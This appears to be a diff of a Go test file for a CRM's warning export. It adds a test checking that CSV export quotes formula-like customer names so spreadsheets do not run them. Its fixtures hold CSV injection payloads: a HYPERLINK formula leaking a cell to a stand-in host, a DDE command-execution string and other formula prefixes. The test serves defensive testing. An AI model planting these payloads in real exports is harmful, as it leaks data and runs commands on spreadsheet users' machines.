@@ -2,8 +2,10 @@ package web
 
 import (
 	"bytes"
+	"context"
 	"encoding/csv"
 	"fmt"
+	"maps"
 	"math"
 	"net/http"
 	"net/url"
@@ -14,6 +16,7 @@ import (
 
 	"github.com/xuri/excelize/v2"
 
+	"postcrm"
 	"postcrm/export"
 )
 
@@ -110,6 +113,70 @@ func TestExportLinksKeepTheFilters(t *testing.T) {
 		want := fmt.Sprintf(`href="/warnings/export?format=%s&amp;kind=walkin_churn&amp;office=13100001"`, format)
 		if !strings.Contains(html, want) {
 			t.Errorf("no export link %s", want)
+		}
+	}
+}
+
+// TestCSVExportDoesNotRunFormulas: names a spreadsheet would run as
+// formulas arrive in the CSV behind a quote, readable; a negative figure
+// stays a number; the workbook keeps the names as they are (text cells).
+func TestCSVExportDoesNotRunFormulas(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	hostile := map[string]string{
+		"CUST-A": `=HYPERLINK("http://evil.example/?leak="&A2,"click")`,
+		"CUST-B": `=cmd|' /C calc'!A0`,
+		"CUST-C": `@SUM(1+9)`,
+		"CUST-D": "\t+1+1",
+	}
+	customers := []postcrm.Customer{}
+	for _, code := range slices.Sorted(maps.Keys(hostile)) {
+		c, err := f.store.ScopedCustomer(ctx, postcrm.Scope{Role: postcrm.RoleProvinceAdmin}, code)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.Customer.Name = hostile[code]
+		customers = append(customers, c.Customer)
+	}
+	if _, err := f.store.Apply(ctx, postcrm.Batch{Kind: postcrm.KindCustomers, Customers: customers}); err != nil {
+		t.Fatal(err)
+	}
+	ws, err := f.store.Warnings(ctx, testMonth)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range ws {
+		if ws[i].CustomerCode == "CUST-A" {
+			ws[i].ActualFen, ws[i].Reason = -1250, "-退款多于收入" // a refund month
+		}
+	}
+	if err := f.store.SaveWarnings(ctx, testMonth, []postcrm.WarningKind{postcrm.WarnDecline}, ws); err != nil {
+		t.Fatal(err)
+	}
+
+	keys := export.WarningKeys(true)
+	col := func(key string) int { return slices.Index(keys, key) }
+	for _, format := range []string{"csv", "xlsx"} {
+		rows := exported(t, f, provinceUser, format, "")
+		seen := 0
+		for _, r := range rows[1:] {
+			name := hostile[r[col("customer_code")]]
+			want := name
+			if format == "csv" {
+				want = "'" + name
+			}
+			if r[col("customer_name")] != want {
+				t.Errorf("%s: name %q, want %q", format, r[col("customer_name")], want)
+			}
+			if r[col("customer_code")] == "CUST-A" {
+				if format == "csv" && (r[col("actual_revenue")] != "-12.50" || r[col("reason")] != "'-退款多于收入") {
+					t.Errorf("csv: actual revenue %q, reason %q; want -12.50 and the reason quoted", r[col("actual_revenue")], r[col("reason")])
+				}
+				seen++
+			}
+		}
+		if seen != 1 {
+			t.Errorf("%s: CUST-A's warning exported %d times", format, seen)
 		}
 	}
 }
